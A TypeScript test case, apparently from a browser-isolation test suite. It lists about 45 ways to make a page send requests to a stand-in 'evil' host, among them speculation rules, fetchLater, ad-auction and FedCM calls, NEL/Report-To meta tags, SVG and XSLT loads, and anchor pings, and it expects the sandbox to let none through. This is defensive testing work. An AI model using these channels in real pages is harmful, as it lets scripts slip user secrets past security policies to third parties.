import type { JsonValue } from '../../contract/index.ts';
import type { Attack } from '../attack.ts';
import { holds } from '../expect.ts';

type Callable = (...given: unknown[]) => unknown;
/** Interfaces that not every browser has, and no type library knows yet. */
const hidden = (name: string, from: object = window): Callable => {
  const found: unknown = Reflect.get(from, name);
  if (typeof found !== 'function') throw new TypeError(`no ${name}`);
  return (...given) => Reflect.apply(found, from, given);
};
const made = (name: string, ...given: unknown[]): Record<string, unknown> => {
  const found: unknown = Reflect.get(window, name);
  if (typeof found !== 'function') throw new TypeError(`no ${name}`);
  return Reflect.construct(found, given);
};
const within = (owner: object, name: string): object => {
  const found: unknown = Reflect.get(owner, name);
  if (typeof found !== 'object' || found === null) throw new TypeError(`no ${name}`);
  return found;
};

/** Ways of making a browser ask somewhere that are younger than the list of case 16, or hardly anybody thinks of. */
const ways: Readonly<Record<string, (url: string) => unknown>> = {
  socketStream: (url) => made('WebSocketStream', url.replace('http', 'ws')),
  transport: (url) => made('WebTransport', url.replace('http:', 'https:')),
  fetchLater: (url) => hidden('fetchLater')(url, { activateAfter: 0 }),
  fetchTopics: (url) => fetch(url, Object.assign({ mode: 'no-cors' as const }, { browsingTopics: true })),
  fetchReporting: (url) =>
    fetch(url, {
      mode: 'no-cors',
      ...{ keepalive: true, attributionReporting: { eventSourceEligible: true, triggerEligible: true } },
    }),
  fetchToken: (url) =>
    fetch(url, Object.assign({ method: 'POST' }, { privateToken: { version: 1, operation: 'token-request' } })),
  fetchStorage: (url) => fetch(url, Object.assign({ mode: 'no-cors' as const }, { sharedStorageWritable: true })),
  navigate: (url) => hidden('navigate', within(window, 'navigation'))(url, { history: 'replace' }),
  eagerPrefetch: (url) => rules('prefetch', { source: 'list', urls: [url], eagerness: 'immediate' }),
  eagerPrerender: (url) => rules('prerender', { source: 'list', urls: [url], eagerness: 'immediate' }),
  documentRules: (url) => {
    link(url);
    rules('prefetch', { source: 'document', where: { href_matches: '/*' }, eagerness: 'eager' });
  },
  anonymousPrefetch: (url) =>
    rules('prefetch', { source: 'list', urls: [url], requires: ['anonymous-client-ip-when-cross-origin'] }),
  dictionary: (url) => head('compression-dictionary', url),
  expected: (url) => head('expect', url),
  presentation: (url) => (made('PresentationRequest', [url]).getAvailability as Callable | undefined)?.(),
  payment: (url) => {
    const details = { total: { label: 'x', amount: { currency: 'CNY', value: '1' } } };
    const request = new PaymentRequest([{ supportedMethods: url.replace('http:', 'https:') }], details);
    return request.canMakePayment();
  },
  federated: (url) =>
    navigator.credentials.get(
      Object.assign(
        {},
        { identity: { providers: [{ configURL: url, clientId: 'secret' }] }, mediation: 'optional' as const },
      ),
    ),
  federatedUser: (url) =>
    hidden('getUserInfo', within(window, 'IdentityProvider'))([{ configURL: url, clientId: 'secret' }]),
  credentialIcon: (url) =>
    navigator.credentials.store(
      made('PasswordCredential', { id: 'x', password: 'x', iconURL: url }) as unknown as Credential,
    ),
  interestGroup: (url) =>
    hidden('joinAdInterestGroup', navigator)(
      { owner: self.origin, name: 'x', updateURL: url, biddingLogicURL: url },
      60,
    ),
  auction: (url) => hidden('runAdAuction', navigator)({ seller: new URL(url).origin, decisionLogicURL: url }),
  sharedWorklet: (url) => hidden('createWorklet', within(window, 'sharedStorage'))(url),
  sharedUrl: (url) => hidden('selectURL', within(window, 'sharedStorage'))('x', [{ url }]),
  media: (url) => {
    navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: url, sizes: '96x96' }] });
    navigator.mediaSession.playbackState = 'playing';
  },
  notification: (url) => new Notification('x', { icon: url }),
  backgroundFetch: (url) =>
    navigator.serviceWorker.getRegistration().then((own) => {
      if (own) return hidden('fetch', within(own, 'backgroundFetch'))('x', url);
      throw new TypeError('no worker');
    }),
  push: (url) =>
    navigator.serviceWorker
      .getRegistration()
      .then((own) => own?.pushManager.subscribe({ applicationServerKey: url, userVisibleOnly: true })),
  protocol: (url) => navigator.registerProtocolHandler('web+secret', `${url}&%s`),
  share: (url) => navigator.share({ url }),
  install: (url) => hidden('install', navigator)(url),
  relatedApps: () => hidden('getInstalledRelatedApps', navigator)(),
  remotePlayback: (url) => {
    const video = document.createElement('video');
    video.src = url;
    document.body.append(video);
    return video.remote.watchAvailability(() => undefined);
  },
  imageDecoder: (url) => fetch(url).then(({ body }) => made('ImageDecoder', { data: body, type: 'image/png' })),
  xmlStyle: (url) => {
    const text = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${url}"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="${url}"/></x>`;
    const frame = document.createElement('iframe');
    frame.src = URL.createObjectURL(new Blob([text], { type: 'text/xml' }));
    document.body.append(frame);
  },
  svgUse: (url) =>
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg><use href="${url}#x"/><filter id="f"><feImage href="${url}"/></filter><rect filter="url(${url}#f)" width="9" height="9"/></svg>`,
    ),
  constructed: (url) => {
    const sheet = new CSSStyleSheet({ baseURL: url });
    sheet.replaceSync('body{background-image:url("relative")}@import "sheet";');
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  cssModule: (url) => import(/* @vite-ignore */ url, { with: { type: 'css' } }),
  jsonModule: (url) => import(/* @vite-ignore */ `${url}&json`, { with: { type: 'json' } }),
  sourceMap: (url) => {
    const script = document.createElement('script');
    script.src = URL.createObjectURL(
      new Blob([`//# sourceMappingURL=${url}\n//# sourceURL=${url}`], { type: 'text/javascript' }),
    );
    document.head.append(script);
  },
  anchorPing: (url) => {
    const anchor = link('#here');
    anchor.ping = url;
    anchor.click();
  },
  download: (url) => {
    const anchor = link(url);
    anchor.download = 'x';
    anchor.click();
  },
  lazyFrame: (url) => document.body.insertAdjacentHTML('beforeend', `<iframe loading="lazy" src="${url}"></iframe>`),
  credentialless: (url) =>
    document.body.insertAdjacentHTML('beforeend', `<iframe credentialless src="${url}"></iframe>`),
  preloadHeaderless: (url) =>
    document.head.insertAdjacentHTML(
      'beforeend',
      `<link rel="preload" as="image" fetchpriority="high" imagesrcset="${url} 2x" imagesizes="9px">`,
    ),
  reporting: (url) =>
    document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="Reporting-Endpoints" content='default="${url}"'>`),
  errorLog: (url) =>
    document.head.insertAdjacentHTML(
      'beforeend',
      `<meta http-equiv="NEL" content='{"report_to":"x","max_age":1}'><meta http-equiv="Report-To" content='{"group":"x","max_age":1,"endpoints":[{"url":"${url}"}]}'>`,
    ),
};

function rules(kind: string, rule: object): void {
  const script = document.createElement('script');
  script.type = 'speculationrules';
  script.nonce = document.querySelector<HTMLScriptElement>('script[nonce]')?.nonce ?? '';
  script.textContent = JSON.stringify({ [kind]: [rule] });
  document.head.append(script);
}
function link(url: string): HTMLAnchorElement {
  const anchor = document.createElement('a');
  anchor.href = url;
  anchor.textContent = 'link';
  document.body.append(anchor);
  return anchor;
}
function head(rel: string, href: string): void {
  document.head.append(Object.assign(document.createElement('link'), { rel, href }));
}

export const attack: Attack = {
  id: '171',
  group: 'exfiltration',
  title: `make the browser ask elsewhere by its younger interfaces, in ${Object.keys(ways).length} ways`,
  expected: '0 hits',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }): Promise<JsonValue> {
    const outcomes: Record<string, string> = {};
    const later: Promise<unknown>[] = [];
    const nameOf = (error: unknown): string =>
      error instanceof Error || error instanceof DOMException ? `${error.name} ${error.message.slice(0, 40)}` : 'threw';
    for (const [name, go] of Object.entries(ways)) {
      // Whatever leaves the page comes last.
      if (name === 'navigate' || name === 'download') continue;
      try {
        outcomes[name] = 'tried';
        const result = go(`${evil}/171/${name}?secret`);
        if (result instanceof Promise) {
          later.push(
            result.catch((error) => {
              outcomes[name] = nameOf(error);
            }),
          );
        }
      } catch (error) {
        outcomes[name] = nameOf(error);
      }
    }
    await Promise.race([Promise.all(later), pause(1_500)]);
    await pause(500);
    setTimeout(() => {
      for (const name of ['navigate', 'download']) {
        try {
          const leaving = ways[name]?.(`${evil}/171/${name}?secret`);
          for (const promise of Object.values((leaving ?? {}) as Record<string, Promise<unknown>>))
            promise.catch(() => null);
        } catch {
          // Refused at once.
        }
      }
    }, 100);
    return outcomes;
  },
  async judge({ report, page }) {
    const tried = Object.keys(report ?? {});
    holds(tried.length === Object.keys(ways).length - 2, `tried ${JSON.stringify(report)}`);
    await page.waitForTimeout(500);
  },
};
